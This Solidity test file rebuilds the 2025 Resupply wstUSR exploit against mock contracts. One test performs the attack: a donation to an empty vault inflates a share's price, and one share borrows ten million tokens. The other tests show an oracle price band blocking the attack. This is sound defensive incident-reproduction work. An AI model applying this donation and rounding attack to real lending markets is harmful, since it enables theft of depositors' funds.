// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IOracleHub} from "../../contracts/interfaces/IOracleHub.sol";
import {TestFeed} from "../../contracts/mocks/TestFeed.sol";
import {TestToken} from "../../contracts/mocks/TestToken.sol";
import {DonatedVault, ShareFeed} from "./doubles/DonatedVault.sol";
import {IPriceSource} from "./doubles/LendingMarket.sol";
import {LendingTest} from "./doubles/LendingTest.sol";
import {RatioMarket} from "./doubles/RatioMarket.sol";

/// @title Resupply wstUSR: an exchange rate that was rounded to zero
/// @notice A new market lent against the shares of a vault that was still empty. Ninety-five minutes later somebody gave
/// the vault 2,000 crvUSD and bought one unit of a share for two more. The share's price rose to 2e36; the market's
/// rate, 1e36 through the price, fell to zero, and so did the loan-to-value of any debt. Rebuilt: the same vault,
/// donation, rate and loan, with the price taken from the hub.
/// @custom:row 14
/// @custom:date 2025-06-26
/// @custom:loss about $9.6 million, for 2,002 crvUSD
/// @custom:cause the price of an empty vault's share, which a donation sets, taken without a limit and rounded to zero
/// @custom:label stopped
/// @custom:guard OracleHub.price, proposeFeed: PriceOutOfBand
contract Incident14Test is LendingTest {
    uint256 private constant LIMIT = 10_000_000e18;
    uint256 private constant DONATION = 2000e18;
    uint256 private constant DEPOSIT = 2e18 + 1;
    uint256 private constant MAX_LTV = 9500;
    /// @dev A share of the empty vault, in dollars.
    uint256 private constant PRICE = 0.001e18;
    /// @dev Of a share when one unit and the thousand dead ones are backed by 2,002 crvUSD: above 1e36.
    uint256 private constant INFLATED = 2_000_000_000_000_000_000_001_998_001_998_001_998;

    TestToken private _crvUsd = new TestToken("crvUSD", "crvUSD", 18);
    TestToken private _reUsd = new TestToken("reUSD", "reUSD", 18);
    DonatedVault private _vault = new DonatedVault(_crvUsd);
    RatioMarket private _pair;

    function setUp() public {
        vm.warp(1_795_219_200);
    }

    /// @notice Believed without a limit, one unit of a share borrows ten million reUSD.
    function test_harm_oneUnitBorrows10Million() public {
        _open(_unguarded());
        _donate(DONATION, DEPOSIT);
        assertEq(_vault.balanceOf(attacker), 1);
        assertEq(hub.price(address(_vault)), INFLATED);
        _pledgeAll();
        vm.prank(attacker);
        _pair.borrow(LIMIT);
        assertEq(_reUsd.balanceOf(attacker), LIMIT);
        assertEq(_reUsd.balanceOf(address(_pair)), 0);
    }

    /// @notice The share's price leaves its band at the donation: nothing can be borrowed against it.
    function test_guard_bandEndsThePrice() public {
        _open(_guarded());
        _donate(DONATION, DEPOSIT);
        _pledgeAll();
        vm.expectRevert(_outOfBand(INFLATED));
        vm.prank(attacker);
        _pair.borrow(1);
        assertEq(_reUsd.balanceOf(address(_pair)), LIMIT);
    }

    /// @notice Nor can a vault be listed that somebody has given something already.
    function test_guard_bandRefusesTheListing() public {
        _donate(DONATION, DEPOSIT);
        hub = _guarded();
        IOracleHub.Feed memory feed = _feedOfShares();
        vm.expectRevert(_outOfBand(INFLATED));
        hub.proposeFeed(address(_vault), feed);
    }

    /// @notice A donation that stays within the band pays for itself: the shares are worth it, and borrow less.
    function test_guard_withinTheBandDonationsBackTheDebt() public {
        _open(_guarded());
        _donate(0, DEPOSIT);
        _donate(8 * DEPOSIT, 0);
        _pledgeAll();
        uint256 limit = 9 * DEPOSIT * MAX_LTV / 10_000;
        vm.startPrank(attacker);
        // The market counts whole basis points.
        vm.expectPartialRevert(RatioMarket.LtvTooHigh.selector);
        _pair.borrow(limit + limit / 5000);
        _pair.borrow(limit);
        vm.stopPrank();
        assertLt(_reUsd.balanceOf(attacker), 9 * DEPOSIT);
    }

    function _open(IOracleHub hub_) private {
        hub = hub_;
        hub.proposeFeed(address(_vault), _feedOfShares());
        _pair = new RatioMarket(IPriceSource(address(hub)), _vault, _reUsd, MAX_LTV);
        _reUsd.mint(address(_pair), LIMIT);
    }

    function _feedOfShares() private returns (IOracleHub.Feed memory) {
        return _feed(TestFeed(address(new ShareFeed(_vault))), PRICE);
    }

    function _donate(uint256 donated, uint256 deposited) private {
        _crvUsd.mint(address(_vault), donated);
        _crvUsd.mint(attacker, deposited);
        vm.startPrank(attacker);
        _crvUsd.approve(address(_vault), deposited);
        _vault.deposit(deposited, attacker);
        vm.stopPrank();
    }

    function _pledgeAll() private {
        uint256 shares = _vault.balanceOf(attacker);
        vm.startPrank(attacker);
        _vault.approve(address(_pair), shares);
        _pair.supply(shares);
        vm.stopPrank();
    }

    function _outOfBand(uint256 price) private view returns (bytes memory) {
        return abi.encodeWithSelector(
            IOracleHub.PriceOutOfBand.selector, _vault, price, PRICE / 10, PRICE * 10
        );
    }
}
